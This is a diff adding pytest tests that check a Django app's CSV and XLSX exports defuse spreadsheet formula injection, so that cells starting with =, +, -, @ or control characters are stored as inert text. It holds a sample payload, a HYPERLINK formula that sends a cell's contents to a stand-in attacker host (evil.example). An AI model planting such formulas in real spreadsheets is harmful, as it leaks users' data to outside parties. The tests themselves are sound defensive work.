@@ -138,3 +138,36 @@ def test_running_order_pdf_lists_the_pairs_per_table(client, forum, small, organ
 def test_unknown_export_is_404(client, forum, organiser):
     client.force_login(organiser)
     assert client.get(reverse("console:export", args=["secrets", "csv"])).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
+
+
+@pytest.mark.parametrize("name", ["organisations", "meetings", "requests", "delegates"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_write_a_formula_in_a_name_as_inert_text(
+    client, forum, small, organiser, name, fmt
+):
+    organisation = small["ua"].organisation
+    organisation.name = FORMULA
+    organisation.save()
+    client.force_login(organiser)
+    response = client.get(reverse("console:export", args=[name, fmt]))
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
+        assert "'" + FORMULA in cells
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert "'" + FORMULA in [c.value for c in cells]
+        assert all(c.data_type != "f" for c in cells)
+
+
+@pytest.mark.parametrize("value", ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "=1"])
+def test_safe_cell_prefixes_each_formula_start(value):
+    from matchforum.core.spreadsheet import safe_cell
+
+    assert safe_cell(value) == "'" + value
+    assert safe_cell(-3) == -3
+    assert safe_cell("Kyiv Optics") == "Kyiv Optics"
